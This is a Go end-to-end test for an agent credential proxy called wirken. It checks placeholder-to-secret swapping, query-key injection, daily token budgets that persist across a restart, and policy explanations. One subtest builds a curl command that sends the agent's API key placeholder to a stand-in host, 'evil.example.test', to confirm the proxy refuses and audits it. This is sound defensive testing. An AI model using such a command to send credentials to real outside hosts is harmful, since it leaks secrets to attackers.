//go:build linux

package vmtests

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	tracepb "go.opentelemetry.io/proto/otlp/trace/v1"
)

// policyE2E: a placeholder credential whose placeholder `wirken exec` hands the agent, a query
// credential, a rule without a credential toward another host, and a daily token budget.
const policyE2E = `version = 1

[agents.demo]
user = "nobody"

[credentials.api]
style = "placeholder"
secret = "api-key"
hosts = ["api.example.test"]
env = "API_KEY"

[credentials.apiq]
style = "query"
secret = "api-key"
hosts = ["api.example.test"]
param = "key"

[[rules]]
name = "demo-api"
agent = "demo"
hosts = ["api.example.test"]
paths = ["/echo"]
credential = "api"
daily_tokens = 10

[[rules]]
name = "demo-query"
agent = "demo"
hosts = ["api.example.test"]
paths = ["/q"]
credential = "apiq"

[[rules]]
name = "demo-other"
agent = "demo"
hosts = ["evil.example.test"]
`

// TestPolicyE2E runs real curl as an unmodified agent through the real eBPF steering and the
// built daemon: placeholder swap (the placeholder comes from exec's environment), query
// injection, a stray placeholder refused and audited, a token budget that runs out and stays
// spent across a daemon restart, and `policy explain` on the daemon's own policy.
func TestPolicyE2E(t *testing.T) {
	e := newEnvWith(t, envOptions{policy: policyE2E})
	// sh runs script as the agent; stdout is then the response body, and code its status.
	sh := func(script string) result {
		r := e.asAgent("/bin/sh", "-c", script).mustSucceed(t)
		i := strings.LastIndexByte(r.stdout, '\n')
		r.stderr, r.stdout = r.stdout[:max(i, 0)], r.stdout[i+1:]
		return r
	}
	curl := func(host, ip, path, extra string) string {
		// host is resolved through wirken's resolver (the proxy requires it); ip is where the
		// test's upstream resolver says host is, for the reader.
		_ = ip
		return "curl -sS --max-time 20 -w '\n%{http_code}' " + extra + " 'https://" + host + path + "'"
	}

	t.Run("placeholder from exec is swapped toward the bound host", func(t *testing.T) {
		r := sh(`test -n "$API_KEY" && case "$API_KEY" in wkn_ph_*) ;; *) exit 9;; esac && ` +
			curl("api.example.test", "127.0.0.2", "/echo", `-H "Authorization: Bearer $API_KEY"`))
		if r.stdout != "200" {
			t.Fatalf("status %q, stderr %s", r.stdout, r.stderr)
		}
		seen := e.api.seen()
		if len(seen) != 1 || seen[0] != "Bearer "+e.canary {
			t.Fatalf("upstream saw Authorization %q; want the real key", seen)
		}
	})
	t.Run("query parameter", func(t *testing.T) {
		r := sh(curl("api.example.test", "127.0.0.2", "/q?a=1&key=dummy", ""))
		e.api.mu.Lock()
		qs := append([]string(nil), e.api.qs...)
		e.api.mu.Unlock()
		if r.stdout != "200" || len(qs) != 2 || qs[1] != "a=1&key="+e.canary {
			t.Fatalf("status %q, upstream queries %q", r.stdout, qs)
		}
		// The span carries the URL without its query, so without the key.
		var url string
		e.otlp.waitFor(t, "the query request's span", func(spans []*tracepb.Span, _ map[string]bool) bool {
			for _, s := range spans {
				if a := spanAttrs(s); a["wirken.rule"] == "demo-query" {
					url = a["url.full"]
					return true
				}
			}
			return false
		})
		if url != "https://api.example.test/q" {
			t.Fatalf("span url.full = %q", url)
		}
		e.otlp.waitFor(t, "spans without the secret", func(spans []*tracepb.Span, _ map[string]bool) bool {
			for _, s := range spans {
				if strings.Contains(s.String(), e.canary) {
					t.Fatalf("a span holds the secret: %v", s)
				}
			}
			return true
		})
	})
	t.Run("placeholder toward another host is refused and audited", func(t *testing.T) {
		r := sh(curl("evil.example.test", "127.0.0.3", "/", `-H "X-Key: $API_KEY"`))
		if r.stdout != "403" || !strings.Contains(r.stderr, "placeholder of credential api") {
			t.Fatalf("status %q, body %q", r.stdout, r.stderr)
		}
		if n := e.other.ln.accepted.Load(); n != 0 {
			t.Fatalf("the other upstream got %d connections", n)
		}
		found := false
		for _, rec := range e.records("request.deny") {
			if strings.Contains(rec["reason"].(string), "placeholder of credential api") {
				found = true
			}
		}
		if !found {
			t.Fatal("the refusal is not in the audit log")
		}
	})
	t.Run("token budget runs out and stays spent across a restart", func(t *testing.T) {
		// The upstream reports 8 tokens per answer; the budget is 10 a day. The first call
		// above used 8, so this one is let through (8 < 10) and the next is refused.
		if r := sh(curl("api.example.test", "127.0.0.2", "/echo", `-H "Authorization: Bearer $API_KEY"`)); r.stdout != "200" {
			t.Fatalf("second call: %q %s", r.stdout, r.stderr)
		}
		deny := func(when string) {
			t.Helper()
			r := sh(curl("api.example.test", "127.0.0.2", "/echo", `-H "Authorization: Bearer $API_KEY"`))
			if r.stdout != "429" || !strings.Contains(r.stderr, "daily token budget spent") {
				t.Fatalf("%s: status %q, body %q", when, r.stdout, r.stderr)
			}
		}
		deny("third call")
		state := filepath.Join(e.dir, "state", "budgets.json")
		deadline := time.Now().Add(10 * time.Second)
		for {
			if b, _ := os.ReadFile(state); strings.Contains(string(b), `"tokens": 16`) {
				break
			}
			if time.Now().After(deadline) {
				b, _ := os.ReadFile(state)
				t.Fatalf("budgets.json not written: %q", b)
			}
			time.Sleep(50 * time.Millisecond)
		}
		e.killDaemon()
		e.startDaemon()
		deny("after a restart")
		if n := len(e.api.seen()); n != 3 {
			t.Fatalf("upstream saw %d requests; want 3 (two budgeted calls and the query)", n)
		}
	})
	t.Run("policy explain on the daemon's policy", func(t *testing.T) {
		r := e.wirken(nil, "policy", "explain", "--agent", "demo", "--method", "POST", "https://api.example.test/echo").mustSucceed(t)
		for _, want := range []string{"verdict:    allow", "rule:       demo-api", "placeholder wkn_ph_", "(exec sets API_KEY)", "at most 10 LLM tokens per day (UTC)"} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("explain output lacks %q:\n%s", want, r.stdout)
			}
		}
		r = e.wirken(nil, "policy", "explain", "--agent", "demo", "https://api.example.test/admin").mustSucceed(t)
		if !strings.Contains(r.stdout, "reason:     path not allowed for agent demo to api.example.test:443") {
			t.Errorf("denied explain:\n%s", r.stdout)
		}
	})
	if strings.Contains(e.logs.String(), e.canary) || strings.Contains(e.auditLog(), e.canary) {
		t.Error("the secret leaked into the daemon's logs or the audit log")
	}
}
